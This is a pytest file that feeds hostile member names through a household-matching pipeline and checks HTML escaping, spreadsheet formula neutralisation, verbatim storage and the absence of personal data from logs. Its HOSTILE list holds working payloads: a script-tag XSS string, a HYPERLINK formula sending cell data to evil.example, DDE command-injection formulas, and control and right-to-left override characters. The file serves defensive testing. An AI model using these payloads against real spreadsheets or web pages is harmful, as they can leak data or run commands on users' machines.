"""A full sample run with hostile member names, logging at DEBUG, run twice.

Hostile values (markup, spreadsheet formulas, control characters,
right-to-left overrides) must be escaped in report.html, neutralised in
report.xlsx and kept verbatim in the warehouse; no member ID number (raw or
normalised) and no member name may appear in any log record, stream or
Prefect artifact; and the same drop with the same as-of gives byte-identical
flags.csv and matches.parquet.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import logging
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from prefect.client.orchestration import get_client
from prefect.logging.handlers import APILogWorker
from reliability_helpers import SAMPLE_DROP, Outcome, copy_sample, members_as_csv, run_hecha, write_members

import matchers

HOSTILE = [
    "<script>alert('x')</script>王芳",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "张\x07三\x1b[2J\x00",
    "\u202e芳王\u202c李",
]
CONTROL = ["\x07", "\x1b", "\x00"]
FORMULA_TRIGGERS = ("=", "+", "-", "@")


class _Records(logging.Handler):
    """Every log record, formatted with its traceback, at any level."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@contextlib.contextmanager
def _everything_logged_at_debug():
    """Capture every logger's records at DEBUG (including non-propagating ones), then restore."""
    handler = _Records()
    loggers = [logging.getLogger(), *(logging.getLogger(name) for name in list(logging.root.manager.loggerDict))]
    saved = [(logger, logger.level) for logger in loggers]
    for logger in loggers:
        logger.setLevel(logging.DEBUG)
        logger.addHandler(handler)
    try:
        yield handler
    finally:
        for logger, level in saved:
            logger.setLevel(level)
            logger.removeHandler(handler)


def _hostile_drop(drop: Path) -> pd.DataFrame:
    """Give every member of flagged households a hostile name; return the members."""
    members = members_as_csv(drop)
    flagged = pd.read_csv(SAMPLE_DROP.parent / "truth" / "flags.csv").query("rule_id == 'VEHICLE_OWNED'")
    for name, household_id in zip(HOSTILE, sorted(set(flagged["household_id"])), strict=False):
        members.loc[members["household_id"] == household_id, "name"] = name
    write_members(drop, members)
    return members


async def _prefect_texts() -> list[str]:
    """The text of every log the Prefect API holds and every artifact it keeps."""
    async with get_client() as client:
        logs = await client.read_logs()
        artifacts = await client.read_artifacts()
    return [log.message for log in logs] + [f"{a.key} {a.description} {a.data}" for a in artifacts]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Two runs of the hostile drop (the first at DEBUG with everything captured)."""
    root = tmp_path_factory.mktemp("hostile")
    drop = copy_sample(root / "drop")
    members = _hostile_drop(drop)
    stdout = io.StringIO()
    with _everything_logged_at_debug() as handler, contextlib.redirect_stdout(stdout):
        first = run_hecha(drop, root / "first")
        APILogWorker.drain_all(timeout=10)
    second = run_hecha(drop, root / "second")
    assert first.code == second.code == 0, first.stderr + second.stderr
    texts = handler.lines + [stdout.getvalue(), first.stderr] + asyncio.run(_prefect_texts())
    return {"first": first, "second": second, "members": members, "texts": texts}


def test_logs_and_artifacts_hold_no_member_id_or_name(hostile):
    members = hostile["members"]
    raw_ids = {i for i in members["id_number"] if len(i) >= 15}
    normalised = {matchers.normalize_id(i).value for i in raw_ids} - {None}
    names = {n for n in members["name"] if len(n) >= 2}
    haystack = "\n".join(hostile["texts"])
    assert len(hostile["texts"]) > 50 and "DEBUG" in haystack  # DEBUG really was on
    leaked = sorted(value for value in raw_ids | normalised | names if value in haystack)
    assert not leaked, f"{len(leaked)} personal value(s) in logs or artifacts"  # never print them


def test_report_html_escapes_hostile_names(hostile):
    html = (hostile["first"].output / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(" not in html and "</script>王芳" not in html
    assert not any(char in html for char in CONTROL)
    assert "alert(" in html  # the name is there, escaped


_RTL_TEXTS = """const isolating = new Set(['isolate', 'isolate-override', 'plaintext']);
const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
const found = [];
for (let node = walker.nextNode(); node; node = walker.nextNode()) {
  if (!node.nodeValue.includes('\u202e') || node.parentElement.closest('script, style')) continue;
  let el = node.parentElement;
  while (el && !isolating.has(getComputedStyle(el).unicodeBidi)) el = el.parentElement;
  found.push(el ? el.tagName : 'NOT ISOLATED');
}
return found;"""


def test_report_html_isolates_right_to_left_overrides(hostile, browser):
    """Wherever the page shows the member named with a right-to-left override (the case list,
    the household panel), an enclosing element confines it (computed ``unicode-bidi``, real browser)."""
    flagged = pd.read_csv(SAMPLE_DROP.parent / "truth" / "flags.csv").query("rule_id == 'VEHICLE_OWNED'")
    household = sorted(set(flagged["household_id"]))[HOSTILE.index("\u202e芳王\u202c李")]
    browser.get((hostile["first"].output / "report.html").as_uri() + f"#case={household}")
    shown = browser.execute_script(_RTL_TEXTS)
    assert shown and "NOT ISOLATED" not in shown, shown


def _xlsx_cells(outcome: Outcome) -> list:
    workbook = openpyxl.load_workbook(outcome.output / "report.xlsx")
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_report_xlsx_neutralises_formulas_and_control_characters(hostile):
    cells = _xlsx_cells(hostile["first"])
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]
    assert not [text for text in texts if any(char in text for char in CONTROL)]
    assert any("HYPERLINK" in text for text in texts) and any("cmd|" in text for text in texts)


def test_machine_outputs_keep_hostile_names_verbatim(hostile):
    staged = hostile["first"].warehouse("SELECT name FROM stg_members")["name"]
    assert set(HOSTILE) <= set(staged)
    flags = pd.read_csv(hostile["first"].output / "flags.csv", dtype=str, encoding="utf-8-sig")
    hostile_households = set(hostile["members"].loc[hostile["members"]["name"].isin(HOSTILE), "household_id"])
    assert hostile_households <= set(flags.loc[flags["rule_id"] == "VEHICLE_OWNED", "household_id"])


@pytest.mark.parametrize("name", ["flags.csv", "matches.parquet"])
def test_rerun_of_the_same_drop_is_byte_identical(hostile, name):
    first, second = hostile["first"], hostile["second"]
    assert (first.output / name).read_bytes() == (second.output / name).read_bytes()


def test_output_files_are_named_by_source_never_by_drop_file_names(hostile):
    written = {path.relative_to(hostile["first"].output).as_posix() for path in hostile["first"].output.rglob("*")}
    fixed = {"manifest.json", "matches.parquet", "flags.csv", "evidence.parquet", "changes.csv", "exits.csv",
             "report.html", "report.xlsx", "warehouse.duckdb", "quarantine"}
    assert written - fixed <= {f"quarantine/{source}.csv" for source in (
        "households", "members", "hukou", "vehicles", "hr", "bank", "housing", "civil_affairs", "business")}
